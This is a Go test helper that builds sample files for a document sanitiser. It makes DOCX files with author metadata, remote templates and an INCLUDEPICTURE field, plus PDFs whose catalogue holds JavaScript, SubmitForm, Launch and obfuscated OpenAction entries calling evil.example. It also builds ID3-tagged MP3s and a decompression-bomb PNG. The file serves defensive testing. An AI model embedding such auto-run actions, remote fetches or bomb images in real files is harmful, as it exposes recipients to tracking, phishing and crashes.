package main

import (
	"archive/zip"
	"bytes"
	"compress/zlib"
	"encoding/binary"
	"fmt"
	"hash/crc32"
	"image"
	"image/jpeg"
	"io"
	"maps"
	"regexp"
	"slices"
	"strings"
)

// tellingFile is a file with words in it that must not come back, and one that must.
type tellingFile struct {
	name    string
	raw     []byte
	good    string
	bad     []string
	refused bool // to refuse it is right as well
}

func tellingFiles() []tellingFile {
	author := []string{"Quyen", "2026-01", "evil", "attachedTemplate", "docProps", "INCLUDEPICTURE"}
	active := []string{"Quyen", "JavaScript", "app.alert", "SubmitForm", "GoToR", "OpenAction", "Launch", "evil", "/AA", "EmbeddedFile"}
	out := []tellingFile{
		{"don.docx", tellingDOCX(nil), "Noi dung don", author, false},
		{"macro.docx", tellingDOCX(map[string]string{"word/vbaProject.bin": "evil"}), "Noi dung don", author, true},
		{"ghi-am.mp3", append(append(tag("Quyen"), sound(200)...), "TAG"+"Quyen"+strings.Repeat("\x00", 120)...), "\xFF\xFB\x90", []string{"Quyen", "ID3", "TAG"}, false},
	}
	for i, action := range []string{
		"/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", "/OpenAction<</S/SubmitForm/F(http://evil.example/)>>", "/OpenAction<</S/GoToR/F(//evil/a.pdf)/D[0/Fit]>>",
		"/OpenAction<</S/Launch/F(evil.exe)>>", "/AA<</WC<</S/URI/URI(http://evil.example)>>>>", "/Names<</JavaScript<</Names[(a)<</S/JavaScript/JS(app.alert\\(1\\))>>]>>>>",
		"/Open#41ction<</S/Java#53cript/JS<6576696c>>>", "/AcroForm<</Fields[]/XFA(evil)>>",
	} {
		out = append(out, tellingFile{fmt.Sprintf("don-%d.pdf", i), tellingPDF(action), "/MediaBox", active, true})
	}
	return append(out, tellingFile{"don.pdf", tellingPDF(""), "/MediaBox", active, false})
}

// tellingPDF is a document of one page with an author, and an entry of its catalogue.
func tellingPDF(entry string) []byte {
	var b bytes.Buffer
	b.WriteString("%PDF-1.4\n")
	var at []int
	for i, body := range []string{
		"<</Type/Catalog/Pages 2 0 R" + entry + ">>", "<</Type/Pages/Kids[3 0 R]/Count 1>>", "<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]>>", "<</Author(Quyen)/Creator(Quyen)/CreationDate(D:2026-01)>>",
	} {
		at = append(at, b.Len())
		fmt.Fprintf(&b, "%d 0 obj%sendobj\n", i+1, body)
	}
	start := b.Len()
	b.WriteString("xref\n0 5\n0000000000 65535 f \n")
	for _, n := range at {
		fmt.Fprintf(&b, "%010d 00000 n \n", n)
	}
	fmt.Fprintf(&b, "trailer<</Size 5/Root 1 0 R/Info 4 0 R>>\nstartxref\n%d\n%%%%EOF\n", start)
	return b.Bytes()
}

// tellingDOCX is a Word document by an author, with parts that lie on another computer, and more parts.
func tellingDOCX(more map[string]string) []byte {
	const w = ` xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"`
	const office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
	rels := func(pairs ...string) string {
		var b strings.Builder
		for i := 0; i < len(pairs); i += 2 {
			fmt.Fprintf(&b, `<Relationship Id="rId%d" Type="%s%s" Target="%s"/>`, i/2, office, pairs[i], pairs[i+1])
		}
		return `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">` + b.String() + `</Relationships>`
	}
	const away = `" TargetMode="External`
	parts := map[string]string{
		"[Content_Types].xml": `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>` +
			`<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>`,
		"_rels/.rels":                  rels("officeDocument", "word/document.xml", "metadata/core-properties", "docProps/core.xml"),
		"docProps/core.xml":            "<a>Quyen 2026-01-01</a>",
		"word/_rels/document.xml.rels": rels("settings", "settings.xml", "image", `\\evil\a.png`+away, "frame", "http://evil.example/"+away, "hyperlink", "file://evil/b"+away),
		"word/_rels/settings.xml.rels": rels("attachedTemplate", "http://evil.example/a.dotm"+away),
		"word/settings.xml":            `<w:settings` + w + `><w:attachedTemplate r:id="rId0"/><w:zoom w:percent="100"/></w:settings>`,
		"word/document.xml": `<w:document` + w + `><w:body><w:p><w:ins w:author="Quyen" w:date="2026-01-01T00:00:00Z"><w:r><w:t>Noi dung don</w:t></w:r></w:ins>` +
			`<w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil.example/p&quot; "/></w:p></w:body></w:document>`,
	}
	maps.Copy(parts, more)
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	for _, name := range slices.Sorted(maps.Keys(parts)) {
		if f, err := z.Create(name); err == nil { // a buffer takes everything
			_, _ = io.WriteString(f, parts[name])
		}
	}
	_ = z.Close()
	return b.Bytes()
}

// tag is an ID3v2 tag with the name of an artist.
func tag(artist string) []byte {
	text := "\x00" + artist
	frame := "TPE1" + string(binary.BigEndian.AppendUint32(nil, uint32(len(text)))) + "\x00\x00" + text
	return append([]byte{'I', 'D', '3', 3, 0, 0, 0, 0, 0, byte(len(frame))}, frame...)
}

// sound is a little MP3 unlike those with other numbers.
func sound(number byte) []byte {
	frame := make([]byte, 417) // 128 kbit/s at 44.1 kHz
	copy(frame, "\xFF\xFB\x90\x00")
	frame[200] = number
	return bytes.Repeat(frame, 6)
}

// bombPNG is a black picture of 16 bits a channel: small on the wire, eight bytes a pixel once it is painted.
func bombPNG(side int) []byte {
	var packed bytes.Buffer
	z := zlib.NewWriter(&packed)
	for row, i := make([]byte, 1+8*side), 0; i < side; i++ {
		_, _ = z.Write(row) // a buffer takes everything
	}
	_ = z.Close()
	head := binary.BigEndian.AppendUint32(binary.BigEndian.AppendUint32(nil, uint32(side)), uint32(side))
	out := []byte("\x89PNG\r\n\x1a\n")
	for _, c := range [][]byte{append([]byte("IHDR"), append(head, 16, 6, 0, 0, 0)...), append([]byte("IDAT"), packed.Bytes()...), []byte("IEND")} {
		out = append(binary.BigEndian.AppendUint32(out, uint32(len(c)-4)), c...)
		out = binary.BigEndian.AppendUint32(out, crc32.ChecksumIEEE(c))
	}
	return out
}

// honestPhoto is a photo as a phone sends it.
func honestPhoto() []byte {
	var b bytes.Buffer
	_ = jpeg.Encode(&b, image.NewRGBA(image.Rect(0, 0, 1600, 1200)), nil) // a buffer takes everything
	return b.Bytes()
}

var flated = regexp.MustCompile(`stream\r?\n`)

// unpacked is all that a file holds: its bytes, the parts of an archive, and the packed streams of a PDF.
func unpacked(raw []byte) string {
	var all strings.Builder
	if r, err := zip.NewReader(bytes.NewReader(raw), int64(len(raw))); err == nil {
		for _, f := range r.File {
			all.WriteString(f.Name + "\n")
			if body, err := f.Open(); err == nil {
				_, _ = io.Copy(&all, body)
			}
		}
	} else {
		all.Write(raw)
	}
	for _, at := range flated.FindAllIndex(raw, -1) {
		if z, err := zlib.NewReader(bytes.NewReader(raw[at[1]:])); err == nil {
			_, _ = io.Copy(&all, z) // as far as it goes
		}
	}
	return all.String()
}
